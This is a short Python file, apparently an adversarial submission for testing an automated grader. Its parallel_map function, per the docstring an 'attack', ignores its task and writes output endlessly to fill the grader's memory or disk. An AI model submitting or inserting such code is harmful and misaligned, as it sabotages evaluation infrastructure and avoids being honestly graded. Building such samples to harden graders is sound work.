"""Attack: print without end, to fill the grader's memory or the disk."""
import sys


def parallel_map(func, items, workers):
    line = "x" * 1023 + "\n"
    while True:
        sys.stdout.write(line * 1024)


def choose_chunksize(n_items, workers):
    return max(1, -(-n_items // (4 * workers)))


def map_small_tasks(func, items, workers):
    return parallel_map(func, items, workers)
